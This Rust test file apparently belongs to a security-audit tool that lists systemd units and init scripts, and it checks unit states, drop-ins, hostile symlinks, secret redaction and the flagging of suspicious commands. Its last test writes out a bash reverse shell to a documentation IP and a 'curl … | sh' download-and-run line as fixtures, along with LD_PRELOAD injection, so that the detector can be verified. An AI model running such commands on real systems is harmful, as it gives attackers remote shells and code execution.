use std::os::unix::fs::symlink;

use leaksweep_facts::Reason;

use super::*;
use crate::accounts;

/// A disk with root and alice, and files and links (`-> TARGET`) on it.
fn disk(files: &[(&str, &str)]) -> (tempfile::TempDir, Machine) {
    let folder = tempfile::tempdir().unwrap();
    let accounts = [
        ("etc/passwd", "root:*:0:0::/root:\nalice:*:1000:1000::/home/alice:\n"),
        ("etc/group", "root:x:0:\nalice:x:1000:\n"),
        ("home/alice/note", ""),
        ("usr/bin/tool", ""),
    ];
    for (path, content) in accounts.iter().chain(files) {
        let path = folder.path().join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        match content.strip_prefix("-> ") {
            Some(target) => symlink(target, path).unwrap(),
            None => std::fs::write(path, content).unwrap(),
        }
    }
    let machine = Machine::mounted(folder.path()).unwrap();
    (folder, machine)
}

fn services(files: &[(&str, &str)]) -> Observed<Service> {
    let (_folder, machine) = disk(files);
    look(&machine)
}

fn look(machine: &Machine) -> Observed<Service> {
    let accounts = accounts::collect(machine);
    let mut judge = Judge::new(&machine.root, &accounts.names);
    collect(machine, &accounts, &mut judge)
}

fn row<'a>(services: &'a Observed<Service>, name: &str) -> &'a Service {
    let found = services.rows.iter().find(|row| row.name == name);
    found.unwrap_or_else(|| panic!("no {name} in {:#?}", services.rows))
}

const LIB: &str = "[Unit]\nDescription=A tool\n[Service]\nExecStart=/usr/bin/tool\n";

#[test]
fn an_enabled_service_is_described() {
    let found = services(&[
        (
            "usr/lib/systemd/system/tool.service",
            "# note\n[Unit]\nDescription=A tool\n; note\n[Service]\nUser=alice\n\
             ExecStartPre=-/bin/absent\nExecStart=@/usr/bin/tool a \\\n# between\n  b\n\
             ExecStop=/usr/bin/tool stop\n[Install]\nWantedBy=multi-user.target\n",
        ),
        ("usr/lib/systemd/system/multi-user.target", "[Unit]\nDescription=x\n"),
        (
            "etc/systemd/system/multi-user.target.wants/tool.service",
            "-> /usr/lib/systemd/system/tool.service",
        ),
    ]);
    assert_eq!(found.problems, []);
    let tool = row(&found, "tool.service");
    assert_eq!((tool.state.as_str(), tool.starts), ("enabled", true));
    assert_eq!(tool.command, "-/bin/absent\n@/usr/bin/tool a    b\n/usr/bin/tool stop");
    assert_eq!(tool.program.as_deref(), Some("/usr/bin/tool"));
    assert_eq!(tool.program_exists, Some(true));
    assert_eq!(tool.run_as, "alice");
    assert_eq!((tool.scope.as_str(), tool.kind.as_str()), ("system", "service"));
    assert_eq!(row(&found, "multi-user.target").state, "static");
}

#[test]
fn a_drop_in_and_an_earlier_folder_win() {
    let found = services(&[
        ("usr/lib/systemd/system/a-b.service", LIB),
        ("etc/systemd/system/a-b.service.d/9.conf", "[Service]\nExecStart=\nExecStart=/tmp/evil\n"),
        ("usr/lib/systemd/system/a-.service.d/1.conf", "[Unit]\nDescription=changed\n"),
        ("usr/lib/systemd/system/service.d/9.conf", "[Service]\nExecStart=/hidden\n"),
        ("etc/systemd/system/a-b.service.d/note", "no drop-in"),
        ("usr/lib/systemd/system/over.service", LIB),
        ("etc/systemd/system/over.service", "[Service]\nExecStart=tool\n"),
        ("usr/lib/systemd/system/other.service", LIB),
        ("opt/elsewhere.service", LIB),
        ("etc/systemd/system/linked.service", "-> /opt/elsewhere.service"),
        ("etc/systemd/system/gone.service", "-> /usr/lib/systemd/system/removed.service"),
        ("etc/systemd/system/alias.service", "-> /usr/lib/systemd/system/other.service"),
        ("etc/systemd/system/alias.service.d/1.conf", "[Service]\nUser=alice\n"),
    ]);
    assert_eq!(found.problems, []);
    let unit = row(&found, "a-b.service");
    assert_eq!((unit.command.as_str(), unit.description.as_str()), ("/tmp/evil", "changed"));
    assert_eq!(unit.program_exists, Some(false));
    assert_eq!(
        unit.drop_ins,
        "/usr/lib/systemd/system/a-.service.d/1.conf /etc/systemd/system/a-b.service.d/9.conf"
    );
    let over = row(&found, "over.service");
    assert_eq!(over.path, "/etc/systemd/system/over.service");
    assert_eq!(over.program.as_deref(), Some("/usr/bin/tool"));
    for name in ["alias.service", "gone.service"] {
        assert_eq!(row(&found, name).state, "alias", "{name}");
    }
    assert_eq!(row(&found, "linked.service").description, "A tool");
    assert_eq!(row(&found, "other.service").run_as, "alice");
}

#[test]
fn masks_templates_and_generated_units_are_told_apart() {
    let found = services(&[
        ("usr/lib/systemd/system/off.service", LIB),
        ("etc/systemd/system/off.service", "-> /dev/null"),
        ("etc/systemd/system/empty.service", ""),
        ("usr/lib/systemd/system/getty@.service", LIB),
        ("usr/lib/systemd/system/getty.target", "[Unit]\n"),
        (
            "etc/systemd/system/getty.target.wants/getty@tty1.service",
            "-> /usr/lib/systemd/system/getty@.service",
        ),
        ("etc/systemd/system/getty.target.wants/off.service", "-> ../off.service"),
        ("run/systemd/generator/made.mount", "[Mount]\nWhat=/dev/x\n"),
        ("usr/lib/systemd/system/back.service", LIB),
        ("usr/lib/systemd/system/getty.target.wants/back.service", "-> ../back.service"),
        ("etc/systemd/system/getty.target.wants/back.service", "-> /dev/null"),
    ]);
    assert_eq!(found.problems, []);
    let cases = [
        ("off.service", "masked", false),
        ("empty.service", "masked", false),
        ("getty@.service", "template", false),
        ("getty@tty1.service", "enabled", true),
        ("made.mount", "generated", false),
        ("back.service", "static", false),
    ];
    for (name, state, starts) in cases {
        let row = row(&found, name);
        assert_eq!((row.state.as_str(), row.starts), (state, starts), "{name}");
    }
}

#[test]
fn what_a_socket_timer_or_path_sets_off_starts() {
    let folder = "usr/lib/systemd/system";
    let unit = |name: &str| format!("{folder}/{name}");
    let found = services(&[
        (&unit("sockets.target"), "[Unit]\n"),
        (&unit("in.socket"), "[Socket]\nListenStream=23\nAccept=yes\n[Install]\nWantedBy=x\n"),
        (&unit("in@.service"), LIB),
        (&unit("t.timer"), "[Timer]\nOnCalendar=daily\nOnBootSec=1h\nUnit=done.service\n"),
        (&unit("done.service"), LIB),
        (&unit("p.path"), "[Path]\nPathExists=/x\n"),
        (&unit("p.service"), LIB),
        (&unit("sockets.target.wants/in.socket"), "-> ../in.socket"),
        (&unit("sockets.target.wants/t.timer"), "-> ../t.timer"),
        (&unit("absent.target.wants/p.path"), "-> ../p.path"),
    ]);
    let cases = [
        ("in.socket", true, "ListenStream=23"),
        ("in@.service", true, "in.socket"),
        ("t.timer", true, "OnCalendar=daily, OnBootSec=1h"),
        ("done.service", true, "t.timer"),
        ("p.path", false, "PathExists=/x"),
        ("p.service", false, ""),
    ];
    for (name, starts, trigger) in cases {
        let row = row(&found, name);
        assert_eq!((row.starts, row.trigger.as_str()), (starts, trigger), "{name}");
    }
    assert_eq!(row(&found, "in.socket").state, "disabled");
}

#[test]
fn a_users_units_belong_to_that_user() {
    let found = services(&[
        (
            "home/alice/.config/systemd/user/mine.service",
            "[Service]\nExecStart=%h/bin/x\n[Install]\nWantedBy=default.target\n",
        ),
        ("home/alice/.config/systemd/user/default.target.wants/mine.service", "-> ../mine.service"),
        ("home/alice/.config/systemd/user/default.target.wants/agent.service", "-> /x"),
        ("usr/lib/systemd/user/default.target", "[Unit]\n"),
        ("usr/lib/systemd/user/agent.service", LIB),
    ]);
    let mine = row(&found, "mine.service");
    assert_eq!(mine.user.as_deref(), Some("alice"));
    assert_eq!((mine.scope.as_str(), mine.state.as_str(), mine.starts), ("user", "enabled", true));
    assert_eq!(mine.program.as_deref(), Some("/home/alice/bin/x"));
    let agents: Vec<_> = found.rows.iter().filter(|row| row.name == "agent.service").collect();
    let states: Vec<_> = agents.iter().map(|row| (row.user.as_deref(), row.starts)).collect();
    assert_eq!(states, [(None, false), (Some("alice"), true)]);
}

#[test]
fn init_scripts_without_a_unit_are_listed() {
    use std::os::unix::fs::PermissionsExt;
    let header = "#!/bin/sh\n### BEGIN INIT INFO\n# Provides: old\n# Short-Description: An old one\n\
                  ### END INIT INFO\n";
    let (folder, machine) = disk(&[
        ("etc/init.d/old", header),
        ("etc/init.d/README", "text"),
        ("etc/init.d/tool", header),
        ("etc/init.d/off", "\x01\x02"),
        ("etc/rc2.d/S01old", "-> ../init.d/old"),
        ("etc/rc2.d/K01off", "-> ../init.d/off"),
        ("usr/lib/systemd/system/tool.service", LIB),
    ]);
    for script in ["old", "tool", "off"] {
        let path = folder.path().join("etc/init.d").join(script);
        std::fs::set_permissions(path, PermissionsExt::from_mode(0o755)).unwrap();
    }
    let found = look(&machine);
    let scripts: Vec<_> = found.rows.iter().filter(|row| row.manager == "init.d").collect();
    let scripts: Vec<_> = scripts
        .iter()
        .map(|row| (row.name.as_str(), row.state.as_str(), row.description.as_str()))
        .collect();
    assert_eq!(scripts, [("off", "disabled", ""), ("old", "enabled", "An old one")]);
}

#[test]
fn hostile_folders_give_problems_and_end() {
    let (folder, machine) = disk(&[
        ("usr/lib/systemd/system/x.target", "[Unit]\n"),
        ("usr/lib/systemd/system/u.service", LIB),
        ("etc/shadow", "root:$6$topsecret$hash:1::::::\n"),
        ("etc/systemd/system/u.service.d", "-> u.service.d"),
        ("etc/systemd/system/x.target.wants/zero.service", "-> /dev/zero"),
        ("etc/systemd/system/x.target.wants/s.service", "-> ../../../../../../etc/shadow"),
        ("etc/systemd/system/s.service", "-> ../../../../../../etc/shadow"),
        ("etc/systemd/system/a.service", "-> b.service"),
        ("etc/systemd/system/b.service", "-> a.service"),
        ("etc/systemd/system/garbage.service", "\u{0}\u{1}[\n=\n]x\n"),
        ("etc/systemd/system/loop.service", "-> ./loop.service"),
    ]);
    let huge = std::fs::File::create(folder.path().join("etc/systemd/system/huge.service"));
    huge.unwrap().set_len(1 << 40).unwrap();
    let pipe = folder.path().join("etc/systemd/system/pipe.service");
    let mode = rustix::fs::Mode::RUSR;
    rustix::fs::mknodat(rustix::fs::CWD, pipe, rustix::fs::FileType::Fifo, mode, 0).unwrap();
    let found = look(&machine);
    let said = |end: &str, reason| {
        let found = found.problems.iter().any(|p| p.subject.contains(end) && p.reason == reason);
        assert!(found, "{end}");
    };
    said("u.service.d", Reason::WrongType);
    said("s.service", Reason::Malformed);
    said("garbage.service:1", Reason::Malformed);
    said("loop.service", Reason::WrongType);
    said("huge.service", Reason::TooLarge);
    said("pipe.service", Reason::WrongType);
    assert!(!format!("{found:?}").contains("topsecret"));
    assert_eq!(row(&found, "u.service").program.as_deref(), Some("/usr/bin/tool"));
}

#[test]
fn a_secret_in_a_command_is_not_told() {
    let unit = "[Service]\nExecStart=/usr/bin/tool --password=hunter2 -v\n";
    let found = services(&[("etc/systemd/system/tool.service", unit)]);
    assert_eq!(row(&found, "tool.service").command, "/usr/bin/tool --password=*** -v");
    assert!(!format!("{found:?}").contains("hunter2"));
}

#[test]
fn a_very_long_unit_is_read_whole() {
    let mut text = String::from("[Service]\n");
    for number in 0..100_000 {
        text.push_str(&format!("ExecStart=/bin/{number}\\\n\n"));
    }
    let unit = parse_unit(text.as_bytes());
    assert_eq!(unit.list("Service", "ExecStart").len(), 100_000);
    assert_eq!(unit.senseless, None);
}

#[test]
fn many_large_units_are_not_all_read() {
    let (folder, machine) = disk(&[("etc/systemd/system/first.service", LIB)]);
    for number in 0..20 {
        let path = folder.path().join(format!("etc/systemd/system/large{number}.service"));
        std::fs::write(path, "# note\n".repeat(140_000)).unwrap();
    }
    let found = look(&machine);
    let large = found.problems.iter().filter(|problem| problem.reason == Reason::TooLarge);
    assert_eq!((found.rows.len(), large.count()), (21, 1));
    assert_eq!(row(&found, "first.service").description, "A tool");
}

#[test]
fn many_units_with_many_drop_ins_in_common_are_bounded() {
    let (folder, machine) = disk(&[("etc/systemd/system/service.d/0.conf", "[Unit]\n")]);
    let system = folder.path().join("etc/systemd/system");
    for number in 0..2_000 {
        std::fs::write(system.join(format!("u{number}.service")), LIB).unwrap();
        let drop_in = system.join(format!("service.d/{number}.conf"));
        match number % 2 {
            0 => std::fs::write(drop_in, "[Unit]\nDescription=b\n").unwrap(),
            _ => symlink("/dev/null", drop_in).unwrap(),
        }
    }
    let started = std::time::Instant::now();
    let found = look(&machine);
    assert!(started.elapsed().as_secs() < 20, "{:?}", started.elapsed());
    assert_eq!(found.rows.len(), 2_000);
    let [problem] = found.problems.as_slice() else { panic!("{:#?}", found.problems) };
    assert_eq!((problem.subject.as_str(), problem.reason), ("drop-ins", Reason::TooLarge));
    assert!(problem.columns.contains(&"command"));
    let first = row(&found, "u0.service");
    assert!(first.drop_ins.ends_with(" and 968 more"), "{}", first.drop_ins);
    assert_eq!(first.drop_ins.split_whitespace().count(), 32 + 3);
    assert_eq!(first.description, "b");
}

/// The same question to systemd itself.
#[test]
fn this_machine_has_the_states_that_systemctl_says() {
    let Some(system) = systemctl(&[]) else { return };
    let machine = Machine::running().unwrap();
    let found = look(&machine);
    // Without rights the homes of others stay closed, and that is said.
    assert!(found.problems.is_empty() || !machine.privileged, "{:#?}", found.problems);
    assert_eq!(differing(&found, "system", &system), [""; 0]);
    if let Some(global) = systemctl(&["--global"]) {
        assert_eq!(differing(&found, "user", &global), [""; 0]);
    }
}

fn systemctl(arguments: &[&str]) -> Option<String> {
    let mut command = std::process::Command::new(leaksweep_peers::need("systemctl")?);
    command.args(["--root=/", "list-unit-files", "--no-legend", "--no-pager"]).args(arguments);
    let answer = command.output().ok().filter(|answer| answer.status.success());
    if answer.is_none() {
        leaksweep_peers::skip("systemctl cannot list the units here");
    }
    Some(String::from_utf8(answer?.stdout).unwrap())
}

/// systemd says of templates what it says of other units, and has one more word for units that
/// come in with others.
fn differing(found: &Observed<Service>, scope: &str, said: &str) -> Vec<String> {
    let lines = said.lines().map(|line| {
        let mut words = line.split_whitespace();
        (words.next().unwrap(), words.next().unwrap())
    });
    let seen = |name: &str| {
        let mut rows = found.rows.iter().filter(|row| row.user.is_none() && row.scope == scope);
        rows.find(|row| row.name == name).map_or("absent", |row| row.state.as_str())
    };
    lines
        .map(|(name, said)| (name, said, seen(name)))
        .filter(|(_, said, seen)| {
            !(said == seen || *seen == "template" || (*said, *seen) == ("indirect", "disabled"))
        })
        .map(|(name, said, seen)| format!("{name}: {said}, seen {seen}"))
        .collect()
}

#[test]
fn what_commands_and_environment_do_is_told() {
    let unit = |lines: &str| format!("[Service]\n{lines}\n");
    let found = services(&[
        (
            "etc/systemd/system/shell.service",
            &unit("ExecStart=/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.7/1 0>&1'"),
        ),
        (
            "etc/systemd/system/load.service",
            &unit("ExecStart=/usr/bin/tool\nEnvironment=A=b \"LD_PRELOAD=/opt/x.so\""),
        ),
        (
            "etc/systemd/system/file.service",
            &unit("ExecStart=/usr/bin/tool\nEnvironmentFile=-/etc/default/x\nEnvironmentFile=-/no"),
        ),
        ("etc/default/x", "# LD_AUDIT=no\nLD_PRELOAD=/opt/x.so\nOPTIONS='curl x | sh'\n"),
        ("usr/lib/systemd/system/plain.service", LIB),
        (
            "etc/systemd/system/plain.service.d/x.conf",
            &unit("ExecStart=\nExecStart=/bin/sh -c 'curl -s http://192.0.2.7/x | sh'"),
        ),
        ("usr/lib/systemd/user/ordinary.service", LIB),
        (
            "home/alice/.config/systemd/user/own.service",
            &unit("ExecStart=/tmp/x\nEnvironmentFile=/home/alice"),
        ),
    ]);
    let told = |name: &str| row(&found, name).traits.clone();
    assert_eq!(told("shell.service").as_deref(), Some("reverse-shell"));
    assert_eq!(told("load.service").as_deref(), Some("preload"));
    assert_eq!(told("file.service").as_deref(), Some("preload"));
    assert_eq!(told("plain.service").as_deref(), Some("download"));
    assert_eq!(told("own.service").as_deref(), Some("temporary"));
    assert_eq!(told("ordinary.service"), None);
    assert!(found.problems.iter().any(|p| p.columns == ["traits"] && p.subject == "/home/alice"));
}
